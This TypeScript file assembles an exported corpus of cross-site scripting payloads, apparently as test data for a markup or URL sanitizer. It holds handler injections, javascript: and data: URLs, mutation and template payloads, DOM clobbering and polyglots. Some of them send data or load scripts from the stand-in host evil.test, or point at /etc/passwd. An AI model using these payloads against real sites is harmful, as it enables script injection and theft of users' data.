/** Parts of the corpus: markup, handlers and addresses that run, load or navigate. */
const run = "alert(1)";
const img = `<img src=x onerror=${run}>`;
const evil = "https://evil.test";
const base64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";

/** Splits payloads at ¦ and drops the source's line ends. */
const parted = (text: string): string[] => text.replace(/^\n|\n$|(?<=¦)\n/g, "").split("¦");

/** Elements whose handler runs by itself, or at the first touch, with all necessary attributes. */
const handlers = parted(`
img src=x onerror¦img src=/favicon.ico onload¦svg onload¦svg/onload¦body onload¦body onpageshow¦iframe onload¦
input autofocus onfocus¦select autofocus onfocus¦textarea autofocus onfocus¦button autofocus onfocus¦
a href=# autofocus onfocus¦x tabindex=1 autofocus onfocus¦video src=x onerror¦audio src=x onerror¦video><source onerror¦
details open ontoggle¦dialog open onclick¦object data=x onerror¦embed src=/favicon.ico onload¦
link rel=stylesheet href=x onerror¦script src=x onerror¦style onload¦input type=image src=x onerror¦marquee onstart¦
form oninput¦p onmouseover¦x contenteditable onbeforeinput¦x class=is-new onanimationstart¦x popover onbeforetoggle¦
frameset onload¦body onhashchange¦svg><image href=x onerror
`);
/** Terminators of the contexts of a string. */
const ends = parted(`
"¦'¦\`¦>¦">¦'>¦</title>¦</textarea>¦</style>¦</script>¦</noscript>¦-->¦--!>¦]]>¦</select>¦</option></select>¦</template>¦
</xmp>¦</iframe>¦</noembed>¦</noframes>¦</svg>¦</math>¦</a>¦</button>¦</dialog>¦</table>¦</body></html>¦<!-->¦<![CDATA[¦<?x ¦
</p x='>
`);
const attributeEnds = ['"', "'", "`", "&quot;", "&#39;", "&#x22", '\\"', "%22", '\u201d"', " "];
/** Addresses that no link, picture or form may contain, for all ways in which a browser parses them. */
export const hostileUrls = parted(`
javascript:${run}¦JaVaScRiPt:${run}¦ javascript:${run}¦\u0001javascript:${run}¦java\tscript:${run}¦java\nscript:${run}¦
java\r\nscript:${run}¦javascript\t:${run}¦javascript://x%0a${run}¦javascript:void(0);${run}¦
javascript:%61lert(1)¦javascript:"${img}"¦feed:javascript:${run}¦view-source:javascript:${run}¦vbscript:msgbox(1)¦
livescript:${run}¦data:text/html,<script>${run}</script>¦data:text/html;base64,${base64}¦
DATA:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>¦data:,${run}¦blob:${evil}/1¦//evil.test/x¦
/\\evil.test/x¦\\\\evil.test\\x¦/\t/evil.test/x¦///evil.test/x¦https:\\\\evil.test¦filesystem:${evil}/x¦about:srcdoc¦
file:///etc/passwd
`);
const entityUrls = parted(`
javascript&colon;${run}¦java&Tab;script:${run}¦java&NewLine;script&colon;${run}¦&#106;avascript:${run}¦
&#x6A&#x61vascript:${run}¦&#0000106avascript:${run}¦javascript:alert&lpar;1&rpar;¦&#14;javascript:${run}
`);
const mutations = parted(`
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img}">¦<math><mtext><table><mglyph><style>${img}¦
<svg></p><style><a id="</style>${img}">¦<noscript><p title="</noscript>${img}">¦
<form><math><mtext></form><form><mglyph><style></math>${img}¦
<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>¦
<svg><title><style><!--</style>${img}--></style></title></svg>¦
<svg><foreignobject><iframe srcdoc="${img.replace(">", "&gt;")}"></iframe></foreignobject></svg>¦
<select><template><style><!--</style><a rel="--></style></template></select>${img}">¦
<table><td><a title="</td></table>${img}">x</a></td></table>¦<p id="</p>${img}"><plaintext>¦
<a title="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</a>¦&lt;img src=x onerror=${run}&gt;¦
&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;¦<scr<script>ipt>${run}</scr</script>ipt>¦
<<script>${run}//<</script>¦<img src="x\`><script>${run}</script>"\`>¦
<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>¦<iframe><textarea></iframe>${img}¦
<h2>${"<b>".repeat(40)}${img}</h2>
`);
const scripts = parted(`
<script>${run}</script>¦<ScRiPt >${run}</ScRiPt >¦<script\n>${run}</script\n>¦<script/x>${run}</script/x>¦
<script src=${evil}/x.js></script>¦<script src=data:,${run}></script>¦
<script type=module>import "${evil}/x.js"</script>¦<script type=importmap>{"imports":{"/build/":"${evil}/"}}</script>¦
<script type=speculationrules>{"prefetch":[{"urls":["${evil}/x"]}]}</script>¦<svg><script href=data:,${run} />¦
<svg><script>&#97;lert(1)</script>¦<math><script>${run}</script></math>¦
</script><script>${run}</script><script type="application/ld+json">¦"}]}</script><script>${run}</script>¦
<!--<script>${run}//--></script>¦<!--<script><!--</script>${img}¦";${run};//¦';${run};//¦\\";${run};//¦
\u2028${run}\u2029//¦*/${run}/*
`);
const leading = parted(`
<base href=${evil}/>¦<meta http-equiv=refresh content="0;url=${evil}/">¦
<meta http-equiv=refresh content="0;url=javascript:${run}">¦
<meta http-equiv=Content-Security-Policy content="script-src *">¦<meta name=referrer content=unsafe-url>¦
<form action=${evil}/ id=f><button>x</button></form><button form=f autofocus>x</button>¦
<form><button formaction=javascript:${run}>x</button></form>¦
<input type=submit formaction=${evil}/ form=filter value=x>¦<isindex action=javascript:${run} type=image>¦
<iframe src=javascript:${run}></iframe>¦<iframe src=${evil}/></iframe>¦
<iframe srcdoc='<script>parent.${run}</script>'></iframe>¦<object data=javascript:${run}></object>¦
<embed src=${evil}/x.svg>¦<portal src=${evil}/></portal>¦<a href="${evil}/" ping=${evil}/ping target=_blank>x</a>¦
<area href=javascript:${run} shape=default>¦
<img usemap=#m src=/favicon.ico><map name=m><area href=javascript:${run}></map>¦<img src='${evil}/?¦
<a href='${evil}/'><base target='¦<textarea form=filter name=q>¦<form action=${evil}/><textarea name=stolen>¦
<style>@import '${evil}/?¦<img srcset="${evil}/1.png 1x, ${evil}/2.png 2x">¦
<picture><source srcset=${evil}/1.png><img src=/favicon.ico></picture>¦
<video poster=${evil}/p.png src=${evil}/v.mp4 autoplay></video>¦
<table background=${evil}/b.png><td background=${evil}/b.png>x</td></table>¦<input type=image src=${evil}/x.png>¦
<link rel=stylesheet href=${evil}/x.css>¦<link rel=import href=${evil}/x.html>¦<link rel=prefetch href=${evil}/x>¦
<link rel=modulepreload href=${evil}/x.js>¦<link rel=dns-prefetch href=//evil.test>¦<link rel=manifest href=data:,{}>
`);
const styles = parted(`
<p style="background:url(${evil}/b.png)">x</p>¦<p style="position:fixed;inset:0;z-index:9999">x</p>¦
<p style="x:expression(${run});behavior:url(${evil}/x.htc)">x</p>¦<style>*{background:url(${evil}/b.png)}</style>¦
<style>input[value^="+7"]{background:url(${evil}/?7)}</style>¦
<style>@keyframes x{}</style><p style=animation-name:x onanimationend=${run}>x</p>¦
<svg><style>{-o-link-source:"javascript:${run}"}</style></svg>¦}</style>${img}
`);
const svg = parted(`
<svg><a href=javascript:${run}><text y=9>x</text></a></svg>¦
<svg><a xlink:href=javascript:${run}><text y=9>x</text></a></svg>¦
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:${run}/></svg>#x" /></svg>¦
<svg><use href=${evil}/x.svg#x /></svg>¦
<svg><a id=l><animate attributeName=href values=javascript:${run} /><text y=9>x</text></a></svg>¦
<svg><set attributeName=onmouseover to=${run} /></svg>¦
<svg><set attributeName=href to=javascript:${run} onbegin=${run} /></svg>¦
<svg><animate onbegin=${run} attributeName=x dur=1s />¦
<svg><image href=${evil}/x.png /><feImage href=${evil}/x.png /></svg>¦
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${run}</handler></svg>¦
<math href=javascript:${run}>x</math>¦
<math><maction actiontype=statusline xlink:href=javascript:${run}>x</maction></math>
`);
const htmx = parted(`
hx-get=${evil}/¦hx-post=${evil}/ hx-trigger=load¦data-hx-get=${evil}/¦hx-get=/fragments/search?q=x hx-trigger=load¦
hx-on:click=${run}¦hx-on::load=${run}¦hx-on:htmx:after:swap=${run}¦data-hx-on-click=${run}¦hx-on=load:${run}¦
hx-get=/ hx-trigger=load hx-vals='js:{x:${run}}'¦hx-get=/ hx-trigger='load[${run}]'¦hx-get=/ hx-headers='js:{x:${run}}'¦
hx-get=/ hx-trigger=load hx-confirm='js:${run}'¦hx-action=${evil}/ hx-method=post¦hx-ext=x hx-boost=true
`).map((attributes) => `<div ${attributes}>x</div>`);
const htmxTags = parted(`
<hx-partial hx-target=body hx-swap=beforeend>${img}</hx-partial>¦
<template hx type=partial hx-target=body>${img}</template>¦<div id=dialogs hx-swap-oob=true>${img}</div>¦
<title>hijacked</title><div id=results hx-swap-oob=innerHTML>${img}</div>¦
</hx-partial><hx-partial hx-target=html hx-swap=outerHTML>${img}¦<dialog data-modal=0 open>${img}</dialog>¦
<div data-island=MobileMenu data-props='{"main":[{"href":"javascript:${run}","text":"x"}]}'></div>¦
<x-0123456789abcdef01234567>0</x-0123456789abcdef01234567>${img}
`);
const templates = parted(`
{{constructor.constructor('${run}')()}}¦{{$on.constructor('${run}')()}}¦{{_c.constructor('${run}')()}}¦\${${run}}¦
<%= ${run} %>¦#{${run}}¦{%raw%}${img}{%endraw%}¦[[${run}]]¦<x v-html="'${img}'" @click=${run}>x</x>¦
<div ng-app ng-csp><p ng-focus=${run} ng-init="x=${run}">{{x}}</p></div>¦<x x-data x-init=${run} :onclick=${run}>x</x>¦
$&$\`$'$1${img}¦{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}
`);
const names = "document location forms body head cookie trustedTypes getElementById attributes firstChild"
  .split(" ")
  .map((name) => `<form id=${name} name=${name}><input id=${name} name=${name} value=${evil}></form>`);
const clobbers = [
  ...names,
  `<a id=assets href=${evil}/><a id=assets name=script href=${evil}/x.js>`,
  `<iframe name=htmx srcdoc="<a id=config href=${evil}/>"></iframe>`,
  `<div id=main tabindex=-1><div id=results><div id=filter>`,
  `__proto__[innerHTML]=${img}`,
  `constructor[prototype][srcdoc]=${img}`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}}`,
];
const letters = parted(`
<scr\u0000ipt>${run}</scr\u0000ipt>¦<img\u0000src=x onerror=${run}>¦<img src=x\u0000 on\u0000error=${run}>¦\u0000${img}¦
<img\u000csrc=x\u000conerror=${run}>¦<img/src=x/onerror=${run}>¦<img\u000bsrc=x onerror\u000b=${run}>¦\ufeff${img}¦
\uff1cimg src=x onerror=${run}\uff1e¦\u02c2script\u02c3${run}\u02c2/script\u02c3¦\u202e${img}¦
%3Cimg%20src%3Dx%20onerror%3D${run}%3E¦%c0%bcscript%c0%be${run}%c0%bc/script%c0%be¦+ADw-script+AD4-${run}+ADw-/script+AD4-¦
\\u003cimg src=x onerror=${run}\\u003e¦\\x3cscript\\x3e${run}¦<ımg src=x onerror=${run}>¦<ſcript>${run}</ſcript>¦
\r\n\r\n${img}¦<img src=x onerror=alert\`1\`>
`);
const polyglots = parted(`
jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e¦
'">><marquee>${img}</marquee></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>¦
" onclick=${run}//<button ' onclick=${run}//> */ ${run}//¦'-${run}-'"-${run}-"</script><svg onload=${run}>¦
<svg/onload=document.title='XSS'><svg/onload=location='${evil}/'><svg/onload=fetch('${evil}/')><svg/onload=print()>
`);

/** Strings that run code or lead to a foreign site when parsed as markup, address or template; none is there twice. */
export const xssPayloads: readonly string[] = [
  ...scripts,
  ...handlers.map((handler) => `<${handler}=${run}>`),
  ...ends.map((end) => end + img),
  ...attributeEnds.map((end) => `${end} onfocus=${run} autofocus tabindex=1 x=${end}`),
  ...hostileUrls,
  ...[...hostileUrls, ...entityUrls].map((url) => `<a href="${url.replaceAll('"', "&quot;")}">x</a>`),
  ...[mutations, leading, styles, svg, htmx, htmxTags, templates, clobbers, letters, polyglots].flat(),
];
